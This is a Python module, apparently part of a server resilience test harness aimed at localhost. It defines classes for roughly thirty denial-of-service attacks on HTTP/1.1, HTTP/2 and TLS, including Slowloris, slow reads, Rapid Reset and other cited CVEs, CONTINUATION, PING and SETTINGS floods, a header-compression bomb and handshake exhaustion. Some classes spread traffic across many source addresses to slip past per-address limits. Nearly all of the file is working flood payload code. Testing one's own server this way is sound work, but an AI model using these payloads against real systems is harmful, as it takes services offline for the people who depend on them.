"""The attacks: each is a class that says what a connection sends."""

import wire
from wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, literal,
                  opening, request)

GET = request()
POST = request(b"POST", b"/form")


class Attack:
    """Sends `first`, then whatever `more` gives, every `pause` seconds; None: nothing."""

    protocol = "h2"  # of TLS; None: plain TCP
    pause = 0.0
    reads = True
    again = True  # opens a new connection for each that is ended
    spread = 4  # source addresses
    source = None  # this one instead

    def first(self, one):
        return opening()

    def more(self, one):
        return None


class Slow(Attack):
    """Holds connections open and does next to nothing with them."""

    pause = 1.0
    again = False
    spread = 8


class Idle(Slow):
    protocol, spread = "http/1.1", 100

    def first(self, one):
        return b""


class SilentTcp(Slow):
    protocol = None

    def first(self, one):
        return b""


class HalfHello(SilentTcp):
    def first(self, one):
        hello = wire.hello()
        return hello[: len(hello) // 2]


class SlowHead(Slow):
    """Slowloris: a header line a second, and the head never ends."""

    protocol = "http/1.1"

    def first(self, one):
        return b"GET /page HTTP/1.1\r\nHost: localhost\r\n"

    def more(self, one):
        return b"X-A: b\r\n"


class SlowBody(Slow):
    """A body of 1 MiB, one byte a second."""

    protocol = "http/1.1"

    def first(self, one):
        return b"POST /form HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1048576\r\n\r\n"

    def more(self, one):
        return b"x"


class SlowRead(Slow):
    """Asks for 8 MiB and reads a few bytes a second."""

    protocol, reads = "http/1.1", 64

    def first(self, one):
        return b"GET /large HTTP/1.1\r\nHost: localhost\r\n\r\n"


class Preface(Slow):
    """HTTP/2: the preface and nothing else."""


class OpenBlock(Slow):
    """HTTP/2: a header block that never ends, a byte of it now and then."""

    def first(self, one):
        return opening() + frame(HEADERS, END_STREAM, 1, GET)

    def more(self, one):
        return frame(CONTINUATION, 0, 1, literal(b"x-a", b"b"))


class SlowBody2(Slow):
    def first(self, one):
        return opening() + frame(HEADERS, END_HEADERS, 1, POST)

    def more(self, one):
        return frame(DATA, 0, 1, b"x")


class SlowRead2(Slow):
    """HTTP/2: asks for 8 MiB on ten streams with a window of one byte each, and adds one a second."""

    def first(self, one):
        asked = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * n, request(path=b"/large")) for n in range(10))
        return opening((4, 1)) + asked

    def more(self, one):
        return b"".join(frame(WINDOW_UPDATE, 0, 1 + 2 * n, b"\0\0\0\1") for n in range(10))


class RapidReset(Attack):
    """CVE-2023-44487."""

    def more(self, one):
        out = []
        for _ in range(100):
            one.stream += 2
            out.append(frame(HEADERS, END_HEADERS | END_STREAM, one.stream, GET) + frame(RST_STREAM, 0, one.stream, b"\0\0\0\x08"))
        return b"".join(out)


class MadeYouReset(Attack):
    """CVE-2025-8671: makes the server reset streams, by an increment of nothing."""

    def more(self, one):
        out = []
        for _ in range(100):
            one.stream += 2
            out.append(frame(HEADERS, END_HEADERS | END_STREAM, one.stream, GET) + frame(WINDOW_UPDATE, 0, one.stream, b"\0\0\0\0"))
        return b"".join(out)


class Continuation(Attack):
    """CVE-2024-27316: a header block without an end."""

    flood = b"".join(frame(CONTINUATION, 0, 1, literal(b"x-%d" % n, b"v" * 200)) for n in range(64))

    def first(self, one):
        return opening() + frame(HEADERS, END_STREAM, 1, GET)

    def more(self, one):
        return self.flood


class EmptyContinuation(Continuation):
    flood = frame(CONTINUATION, 0, 1) * 1000


class Settings(Attack):
    """CVE-2019-9515."""

    flood = frame(SETTINGS, 0, 0, wire.setting(4, 65535)) * 500

    def more(self, one):
        return self.flood


class Pings(Settings):
    """CVE-2019-9512."""

    flood = frame(PING, 0, 0, b"12345678") * 500


class DeafPings(Pings):
    """Pings of a client that does not read the answers."""

    reads, again = False, False


class DeafSettings(Settings):
    reads, again = False, False


class EmptyData(Settings):
    """CVE-2019-9518."""

    flood = frame(DATA, 0, 1) * 1000

    def first(self, one):
        return opening() + frame(HEADERS, END_HEADERS, 1, POST)


class WindowUpdates(Settings):
    flood = frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 500


class Priorities(Settings):
    flood = b"".join(frame(PRIORITY, 0, 1 + 2 * n, b"\0\0\0\0\x10") for n in range(500))


class Bomb(Attack):
    """CVE-2026-47774: one large cookie in the table, thousands of crumbs that point to it, on streams that stall."""

    def first(self, one):
        return opening((4, 0)) + frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + literal(b"cookie", b"a" * 3900, 0x40))

    def more(self, one):
        out = []
        for _ in range(20):
            one.stream += 2
            out.append(frame(HEADERS, END_HEADERS | END_STREAM, 1 + one.stream, GET + b"\xbe" * 16000))
        return b"".join(out)


class Crumbs(Bomb):
    """The same with crumbs of nothing, which cost more to keep than to send."""

    def first(self, one):
        return opening((4, 0)) + frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + literal(b"cookie", b"", 0x40))


class Requests(Attack):
    """Small requests, far over the limit of an address."""

    protocol, spread = "http/1.1", 2
    flood = b"GET /page HTTP/1.1\r\nHost: localhost\r\n\r\n" * 50

    def first(self, one):
        return b""

    def more(self, one):
        return self.flood


class Denied(Requests):
    """Requests without a credential, each of which is refused."""

    flood = b"GET /records/p1 HTTP/1.1\r\nHost: localhost\r\n\r\n" * 50


class Handshakes(Attack):
    """Recorded ClientHellos: the server does the work of a handshake, the client none."""

    protocol = None

    def first(self, one):
        return HELLO

    def more(self, one):
        one.done = one.heard > 0
        return None


class HandshakesMany(Handshakes):
    """The same from so many addresses that none of them comes too often."""

    spread = 200


class HandshakesShared(Handshakes):
    """The same from the visitor's own address, as from a clinic behind one NAT."""

    source = "127.0.0.1"


HELLO = wire.hello()

ATTACKS = {
    "idle": Idle, "silent-tcp": SilentTcp, "half-hello": HalfHello, "slow-head": SlowHead, "slow-body": SlowBody,
    "slow-read": SlowRead, "h2-preface": Preface, "h2-open-block": OpenBlock, "h2-slow-body": SlowBody2,
    "h2-slow-read": SlowRead2, "rapid-reset": RapidReset, "made-you-reset": MadeYouReset, "continuation": Continuation,
    "empty-continuation": EmptyContinuation, "settings": Settings, "deaf-settings": DeafSettings, "ping": Pings,
    "deaf-ping": DeafPings, "empty-data": EmptyData, "window-update": WindowUpdates, "priority": Priorities,
    "header-bomb": Bomb, "empty-crumbs": Crumbs, "requests": Requests, "denied": Denied, "handshakes": Handshakes,
    "handshakes-many": HandshakesMany, "handshakes-shared": HandshakesShared,
}
